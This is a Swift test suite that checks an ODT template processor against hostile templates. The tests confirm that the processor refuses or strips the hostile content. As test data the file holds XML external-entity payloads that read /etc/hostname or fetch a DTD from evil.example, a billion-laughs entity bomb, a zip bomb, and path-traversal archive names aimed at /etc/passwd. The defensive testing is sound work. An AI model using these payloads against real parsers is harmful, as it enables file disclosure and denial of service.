import Archive
import Documents
import Foundation
import TestSupport
import Testing
import XML

/// Templates made to fetch, run or tell something: each is refused, or comes out without it.
@Suite("Hostile templates") struct HostileTemplateTests {
  private static let evil = HostileTemplate.evil

  @Test("what would fetch, run or hide is nowhere in what is made", arguments: HostileTemplate.all)
  func nowhere(_ hostile: HostileTemplate) throws {
    let bytes = try package(hostile.template, [:])
    let reader = try ZipReader(bytes: bytes)
    for entry in reader.entries {
      let text = try String(decoding: reader.read(entry.name), as: UTF8.self).lowercased()
      #expect(!text.contains(Self.evil), "\(entry.name)")
      #expect(!text.contains("<!doctype") && !text.contains("xml-stylesheet"), "\(entry.name)")
    }
    let text = try part("content.xml", of: bytes).child("body")?.text
    #expect(text == hostile.shows)
    // A fault that would keep it from opening would be an attack too; tables here have no columns.
    let faults = OdtCheck.faults(in: bytes).filter {
      if case .columnWithoutWidth = $0 { false } else { true }
    }
    #expect(faults.isEmpty)
  }

  /// A package of parts, as an attacker packs it.
  private func packed(_ parts: [(String, String)]) throws -> [UInt8] {
    var zip = ZipWriter()
    for (name, text) in parts { try zip.add(name, Array(text.utf8)) }
    return try zip.finish()
  }

  private func content(_ body: String, before: String = "") -> String {
    let odf = "urn:oasis:names:tc:opendocument:xmlns:"
    return before + "<office:document-content xmlns:office=\"\(odf)office:1.0\" xmlns:text=\"\(odf)"
      + "text:1.0\"><office:body><office:text>\(body)</office:text></office:body>"
      + "</office:document-content>"
  }

  @Test("macros, thumbnails, settings and other files of a package stay behind")
  func otherFiles() throws {
    let bytes = try package(
      packed([
        ("content.xml", content("<text:p>ab</text:p>")),
        ("Basic/Standard/Module1.xml", "evil.example"),
        ("Scripts/python/x.py", "evil.example"), ("settings.xml", "evil.example"),
        ("meta.xml", "evil.example"), ("Object 1/content.xml", "evil.example"),
        ("Pictures/x.html", "<html>evil.example</html>"), ("manifest.rdf", "evil.example"),
        ("META-INF/macrosignatures.xml", "evil.example"),
      ]), [:])
    let reader = try ZipReader(bytes: bytes)
    #expect(
      reader.entries.map(\.name) == [
        "mimetype", "META-INF/manifest.xml", "content.xml", "styles.xml", "meta.xml",
        "settings.xml",
      ])
    for entry in reader.entries {
      let text = try String(decoding: reader.read(entry.name), as: UTF8.self)
      #expect(!text.contains(Self.evil), "\(entry.name)")
    }
  }

  @Test(
    "a document type that declares entities is refused, however",
    arguments: [
      "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
      "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>",
      "<!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>",
    ])
  func entities(type: String) throws {
    let bytes = try packed([("content.xml", content("<text:p>&e;</text:p>", before: type))])
    for template in [bytes, Array(content("<text:p>&e;</text:p>", before: type).utf8)] {
      let error = #expect(throws: TemplateError.self) { try OdtTemplate(template) }
      // One that is nowhere defined, as those are that would have to be fetched, is damage.
      switch error {
      case .xml(_, .entityRefused)?: continue
      case .xml(_, .malformed)? where type.contains("%"): continue
      default: Issue.record("\(String(describing: error))")
      }
    }
  }

  @Test("a document type and a stylesheet elsewhere are passed over")
  func elsewhere() throws {
    let before =
      "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?>"
      + "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">"
    let bytes = try package(
      packed([("content.xml", content("<text:p>ab</text:p>", before: before))]), [:])
    let text = try String(decoding: ZipReader(bytes: bytes).read("content.xml"), as: UTF8.self)
    #expect(!text.contains(Self.evil) && text.contains("<text:p>ab</text:p>"))
  }

  @Test("a bomb, a name outside the package and a doubled part are refused")
  func packages() throws {
    let zeros = content("<text:p>\(String(repeating: " ", count: 8 << 20))</text:p>")
    let bomb = try packed([("content.xml", zeros)])
    #expect(bomb.count < 1 << 16)
    let error = #expect(throws: TemplateError.self) { try OdtTemplate(bomb) }
    guard case .archive(.bomb)? = error else {
      Issue.record("\(String(describing: error))")
      return
    }
    // A name of the same length is put into the finished bytes: the writer refuses such a name.
    let sound = try packed([
      ("content.xml", content("<text:p>ab</text:p>")), ("Pictures/..a../x.png", "x"),
    ])
    for name in ["../../../etc/passwd0", "/etc/passwd000000000", "content.xml"] {
      var bytes = sound
      let old = Array("Pictures/..a../x.png".utf8)
      guard name.utf8.count == old.count else { continue }
      for start in 0..<(bytes.count - old.count) where bytes[start...].starts(with: old) {
        bytes.replaceSubrange(start..<(start + old.count), with: Array(name.utf8))
      }
      #expect(bytes != sound)
      #expect(throws: TemplateError.archive(.unsafeName(name))) { try OdtTemplate(bytes) }
    }
  }

  @Test("a template locked with a password is refused as that")
  func locked() throws {
    let locked = try packed([
      ("content.xml", "\u{1}\u{2}"),
      ("META-INF/manifest.xml", "<m:manifest><m:encryption-data/></m:manifest>"),
    ])
    #expect(throws: TemplateError.archive(.encrypted(name: "content.xml"))) {
      try OdtTemplate(locked)
    }
  }

  @Test("numbers no page can hold neither stop nor fill the machine")
  func numbers() throws {
    let huge = [
      "9223372036854775807", "-9223372036854775808", "99999999999999999999", "-5", "x", "",
    ]
    for number in huge + ["nan", "inf", "1e300"] {
      let styles = """
        <style:style style:name="Heading_20_1" style:family="paragraph"/>
        """
      let automatic = """
        <style:page-layout style:name="PX"><style:page-layout-properties
          fo:page-width="\(number)cm" fo:margin-left="\(number)in"/></style:page-layout>
        """
      let body = """
        <text:h text:outline-level="\(number)">a</text:h><text:p><text:s text:c="\(number)"/></text:p>
        <text:p><draw:frame draw:name="image g" svg:width="\(number)cm" svg:height="\(number)mm"/>
        </text:p><table:table><table:table-column table:number-columns-repeated="\(number)"/>
        <table:table-row><table:table-cell table:number-rows-spanned="\(number)"><text:p>b</text:p>
        </table:table-cell></table:table-row></table:table><text:p>\(field("b"))</text:p>
        """
      var template = String(
        decoding: flat(
          body, styles: styles, automatic: automatic,
          masters: "<style:master-page style:name=\"X\" style:page-layout-name=\"PX\"/>"),
        as: UTF8.self)
      template = template.replacingOccurrences(
        of: "text:display-levels=\"2\"",
        with: "text:display-levels=\"\(number)\" text:start-value=\"\(number)\"")
      let bytes = try package(
        Array(template.utf8),
        [
          "g": Make.picture,
          "b": .blocks([
            .heading(.two, ["x"]), .turn(to: .landscape), .table(Table(widths: [1], rows: [["c"]])),
          ]),
        ])
      let text = try #require(try part("content.xml", of: bytes).child("body")).text
      #expect(text.contains("a") && text.contains("b"))
      // And so with what reads it back.
      let again = try Document(odt: bytes, metadata: metadata)
      #expect(try !again.docx().isEmpty)
      #expect(again.plainText.utf8.count < 1 << 16)
    }
  }
}
